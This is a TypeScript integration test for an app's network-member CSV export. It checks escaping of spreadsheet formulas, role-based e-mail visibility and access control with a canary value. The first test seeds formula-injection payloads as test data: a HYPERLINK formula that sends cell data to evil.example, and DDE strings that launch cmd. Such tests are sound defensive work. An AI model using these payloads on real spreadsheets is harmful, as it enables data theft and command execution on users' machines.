import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { createTestApp, type TestApp } from '../../../test/test-app';
import type { HttpClient } from '../../../test/http-client';
import { signedInUser } from '../../../test/fixtures';
import { freshIp, networkWorld, type Person } from '../../../test/network-world';

describe('network members CSV export (HTTP, real database)', () => {
  let app: TestApp;
  let world: Awaited<ReturnType<typeof networkWorld>>;
  let staff: Person;
  const CANARY = `canari-${randomUUID()}`;

  /** The raw bytes (fetch's text() would drop the BOM). */
  const download = async (client: HttpClient, path: string) => {
    const res = await fetch(app.url + path, { headers: client.cookieHeader ? { cookie: client.cookieHeader } : {} });
    return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
  };
  const rowsOf = (bytes: Buffer): string[][] => parse(bytes.toString('utf8'), { bom: true, delimiter: ';', relax_column_count: false });

  beforeAll(async () => {
    app = await createTestApp();
    world = await networkWorld(app);
    ({ staff } = world);
  });
  afterAll(() => app.close());

  it('exports the members for the managers, spreadsheet-safe, e-mails only where the policy allows', async () => {
    const net = await world.createNetwork({ name: 'Club export', slug: 'club-export', visibility: 'private', joinPolicy: 'approval' });
    const animator = await world.person();
    const member = await world.person();
    await world.enrol(net.id, animator, 'animator');
    await world.enrol(net.id, member);
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
      '+33 4 77 00 00 00',
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\tTabulation',
      '\rRetour chariot',
      '＝SOMME(1)',
    ];
    for (const name of hostile) {
      const who = await world.person();
      await world.enrol(net.id, who);
      await app.db.query('UPDATE companies SET legal_name = $1, trade_name = NULL WHERE id = $2', [name, who.companyId]);
    }
    await app.db.query("UPDATE people SET first_name = '=1+1', job_title = '@Directeur' WHERE id = $1", [member.id]);
    await app.db.query("UPDATE companies SET naf_code = '25.62B', commune_code = '42218' WHERE id = $1", [member.companyId]);
    const pending = await world.person();
    await pending.client.post(`/api/v1/networks/${net.id}/join`, { companyId: pending.companyId, message: 'Bonjour' });

    const res = await download(staff.client, `/api/v1/networks/${net.id}/members.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="membres-club-export-\d{4}-\d{2}-\d{2}\.csv"; filename\*=UTF-8''membres-club-export-\d{4}-\d{2}-\d{2}\.csv$/,
    );
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect([...res.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const [header, ...rows] = rowsOf(res.bytes);
    expect(header).toEqual([
      'Entreprise',
      'Raison sociale',
      'SIRET',
      'Code NAF',
      'Commune',
      'Code commune',
      'Rôle',
      'Statut',
      'Membre depuis',
      'Personnes',
    ]);
    expect(rows).toHaveLength(3 + hostile.length);
    // No cell starts with a character a spreadsheet would read as a formula.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    for (const name of hostile) {
      const row = rows.find((r) => r[1] === `'${name}`);
      expect([name, row?.[0]]).toEqual([name, `'${name}`]);
    }

    const byName = (legalName: string) => rows.find((r) => r[1] === legalName)!;
    const memberRow = byName(`Entreprise ${member.id.slice(0, 8)}`);
    expect(memberRow.slice(3, 8)).toEqual(['25.62B', 'Saint-Étienne', '42218', 'Membre', 'Active']);
    expect(memberRow[8]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    // Host staff see the people's addresses.
    expect(memberRow[9]).toBe(`'=1+1 Martin (@Directeur) <${member.email}>`);
    const pendingRow = byName(`Entreprise ${pending.id.slice(0, 8)}`);
    expect(pendingRow.slice(6, 10)).toEqual(['Membre', 'En attente', '', '']);
    expect(byName(`Entreprise ${animator.id.slice(0, 8)}`)[6]).toBe('Animateur');

    // An animating member company gets the names, not the addresses.
    const byAnimator = rowsOf((await download(animator.client, `/api/v1/networks/${net.id}/members.csv`)).bytes);
    const seen = byAnimator.find((r) => r[1] === `Entreprise ${member.id.slice(0, 8)}`)!;
    expect(seen[9]).toBe("'=1+1 Martin (@Directeur)");
    expect(JSON.stringify(byAnimator)).not.toContain('@test.example');

    // English headers for an English-speaking manager.
    await app.db.query("UPDATE people SET locale = 'en' WHERE id = $1", [world.admin.id]);
    const english = await download(world.admin.client, `/api/v1/networks/${net.id}/members.csv`);
    expect(english.headers.get('content-disposition')).toContain('filename="members-club-export-');
    expect(rowsOf(english.bytes)[0][0]).toBe('Company');
  });

  it('never gives a private network’s member list to anyone else (canary)', async () => {
    const net = await world.createNetwork({ name: 'Club privé canari', visibility: 'private', joinPolicy: 'approval' });
    const secret = await world.createNetwork({ name: 'Club secret canari', visibility: 'secret', joinPolicy: 'invitation' });
    const insider = await world.person();
    await world.enrol(net.id, insider);
    await world.enrol(secret.id, insider);
    await app.db.query('UPDATE companies SET legal_name = $1 WHERE id = $2', [`Entreprise ${CANARY}`, insider.companyId]);
    await app.db.query('UPDATE people SET last_name = $1 WHERE id = $2', [CANARY, insider.id]);
    const animatorElsewhere = await world.person();
    const elsewhere = await world.createNetwork({ name: 'Club ailleurs export' });
    await world.enrol(elsewhere.id, animatorElsewhere, 'animator');
    const moderator = await world.person();
    await world.enrol(net.id, moderator, 'moderator');
    const pending = await world.person();
    await pending.client.post(`/api/v1/networks/${net.id}/join`, { companyId: pending.companyId });
    const rejected = await world.person();
    await rejected.client.post(`/api/v1/networks/${net.id}/join`, { companyId: rejected.companyId });
    await staff.client.post(`/api/v1/networks/${net.id}/members/${rejected.companyId}/reject`);
    const stranger = await signedInUser(app, { ip: freshIp() });

    // The canary is real: the managers' export carries it.
    expect((await download(staff.client, `/api/v1/networks/${net.id}/members.csv`)).bytes.toString()).toContain(CANARY);

    const outsiders: [string, HttpClient, number[]][] = [
      ['anonymous', app.client(), [401, 401]],
      ['stranger', stranger.client, [403, 404]],
      ['pending', pending.client, [403, 404]],
      ['rejected', rejected.client, [403, 404]],
      ['animator elsewhere', animatorElsewhere.client, [403, 404]],
    ];
    // Members without the right to export.
    for (const [who, client, statuses] of [
      ['moderator', moderator.client, [403, 404]],
      ['member', insider.client, [403, 403]],
    ] as const) {
      const a = await download(client, `/api/v1/networks/${net.id}/members.csv`);
      const b = await download(client, `/api/v1/networks/${secret.id}/members.csv`);
      expect([who, a.status, b.status]).toEqual([who, ...statuses]);
    }
    for (const [who, client, [privateStatus, secretStatus]] of outsiders) {
      const a = await download(client, `/api/v1/networks/${net.id}/members.csv`);
      const b = await download(client, `/api/v1/networks/${secret.id}/members.csv`);
      expect([who, a.status, b.status]).toEqual([who, privateStatus, secretStatus]);
      for (const res of [a, b]) expect([who, res.bytes.toString()]).not.toEqual([who, expect.stringContaining(CANARY)]);
      for (const path of [
        `/api/v1/networks/${net.id}/members`,
        `/api/v1/networks/${secret.id}/members`,
        `/api/v1/networks/${net.id}`,
        `/api/v1/networks?pageSize=100`,
      ]) {
        const res = await client.get(path);
        expect([who, path, JSON.stringify(res.body)]).not.toEqual([who, path, expect.stringContaining(CANARY)]);
      }
    }
    // Nor through any e-mail written to someone other than the insider.
    const mails = await app.db.query('SELECT "to", subject, text, html FROM mail_outbox WHERE "to" <> $1', [insider.email]);
    expect(JSON.stringify(mails)).not.toContain(CANARY);
  });
});
